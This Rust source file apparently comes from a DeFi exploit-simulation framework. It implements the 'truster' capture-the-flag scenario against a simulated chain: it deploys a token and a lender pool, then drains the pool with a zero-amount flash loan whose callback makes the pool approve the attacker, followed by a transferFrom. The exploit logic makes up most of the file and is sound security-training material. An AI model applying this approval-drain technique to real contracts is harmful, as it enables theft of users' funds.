//! Flash-loan approval drain.
//!
//! The pool performs an arbitrary call on the borrower's behalf with itself
//! as caller-of-record. A zero-amount loan whose callback makes the pool
//! approve the attacker for its whole balance repays trivially, and the
//! next call of the same unit pulls the funds.

use tracing::info;

use crate::chain::{Account, Address, Amount, Payload, Timestamp, World, tokens};
use crate::config::ScenarioParams;
use crate::error::{CallError, HeistError, ScenarioError};
use crate::exec::{BatchExecutor, ExecutorCall};
use crate::scenario::verifier::{Expectation, verify};
use crate::scenario::{Actor, Outcome};
use crate::targets::token::balance_of;
use crate::targets::{LenderPool, PoolCall, TokenCall, TokenLedger};

pub const NAME: &str = "truster";

/// Default whole tokens held by the pool.
pub const DEFAULT_POOL_TOKENS: u64 = 1_000_000;

/// Default chain clock at deployment.
pub const DEFAULT_START: Timestamp = 1_700_000_000;

/// Deployment parameters.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct TrusterParams {
    pub pool_tokens: u64,
    pub start_time: Timestamp,
}

impl Default for TrusterParams {
    fn default() -> Self {
        Self {
            pool_tokens: DEFAULT_POOL_TOKENS,
            start_time: DEFAULT_START,
        }
    }
}

impl TrusterParams {
    /// Applies configured overrides. Queue parameters do not apply here.
    #[must_use]
    pub fn from_config(params: &ScenarioParams) -> Self {
        let defaults = Self::default();
        Self {
            pool_tokens: params.target_tokens.unwrap_or(defaults.pool_tokens),
            start_time: params.start_time.unwrap_or(defaults.start_time),
        }
    }
}

/// Deployed system, ready to be attacked.
#[derive(Debug, Clone)]
pub struct TrusterSetup {
    pub world: World,
    pub deployer: Address,
    pub player: Address,
    pub token: Address,
    pub pool: Address,
    pub pool_balance: Amount,
}

/// Deploys the token and the pool, and funds the pool.
///
/// # Errors
///
/// Fails if funding the pool fails.
pub fn bootstrap(params: &TrusterParams) -> Result<TrusterSetup, CallError> {
    let mut world = World::new(params.start_time);
    let deployer = world.create_external("truster/deployer");
    let player = world.create_external("truster/player");

    let token = world.deploy(
        Address::derive("truster/token"),
        Account::Token(TokenLedger::new("DVT", deployer, Amount::MAX)),
    );
    let pool = world.deploy(
        Address::derive("truster/pool"),
        Account::Pool(LenderPool::new(token)),
    );

    let pool_balance = tokens(params.pool_tokens);
    world.transact(
        deployer,
        token,
        0,
        &Payload::encode(&TokenCall::Transfer {
            to: pool,
            amount: pool_balance,
        }),
    )?;

    info!(%pool, %token, pool_balance, "truster deployed");

    Ok(TrusterSetup {
        world,
        deployer,
        player,
        token,
        pool,
        pool_balance,
    })
}

/// Runs the drain as the player through a single executor unit.
///
/// # Errors
///
/// Returns the failing transaction.
pub fn attack(setup: &mut TrusterSetup) -> Result<(), CallError> {
    let TrusterSetup {
        world,
        player,
        token,
        pool,
        ..
    } = setup;
    let (player, token, pool) = (*player, *token, *pool);

    let executor = world.deploy(
        Address::derive("truster/player/executor"),
        Account::Executor(BatchExecutor::new(player)),
    );
    let amount = balance_of(world, token, pool)?;

    let steps = [
        ExecutorCall::AddCall {
            target: pool,
            value: 0,
            payload: Payload::encode(&PoolCall::FlashLoan {
                amount: 0,
                borrower: executor,
                target: token,
                data: Payload::encode(&TokenCall::Approve {
                    spender: executor,
                    amount,
                }),
            }),
        },
        ExecutorCall::AddCall {
            target: token,
            value: 0,
            payload: Payload::encode(&TokenCall::TransferFrom {
                from: pool,
                to: player,
                amount,
            }),
        },
        ExecutorCall::Run,
    ];
    for step in &steps {
        world.transact(player, executor, 0, &Payload::encode(step))?;
    }
    Ok(())
}

/// Success condition: the pool is empty and the player holds its funds.
#[must_use]
pub fn expectations(setup: &TrusterSetup) -> Vec<Expectation> {
    vec![
        Expectation {
            label: "pool drained",
            token: setup.token,
            holder: setup.pool,
            expected: 0,
        },
        Expectation {
            label: "player holds pool funds",
            token: setup.token,
            holder: setup.player,
            expected: setup.pool_balance,
        },
    ]
}

/// Bootstraps, attacks and verifies.
///
/// # Errors
///
/// Fails on a failed bootstrap. A failed attack is reported in the
/// returned [`Outcome`].
pub fn run(params: &ScenarioParams) -> Result<Outcome, HeistError> {
    let params = TrusterParams::from_config(params);
    let mut setup = bootstrap(&params).map_err(|source| ScenarioError::Bootstrap {
        scenario: NAME,
        source,
    })?;
    let logs_from = setup.world.logs().len();

    let attack = attack(&mut setup);
    let verdict = verify(&setup.world, &expectations(&setup)).map_err(CallError::from)?;

    Ok(Outcome {
        scenario: NAME,
        actors: vec![
            Actor::new("deployer", setup.deployer),
            Actor::new("player", setup.player),
            Actor::new("token", setup.token),
            Actor::new("pool", setup.pool),
        ],
        readiness: None,
        attack,
        verdict,
        logs: setup.world.logs()[logs_from..].to_vec(),
    })
}
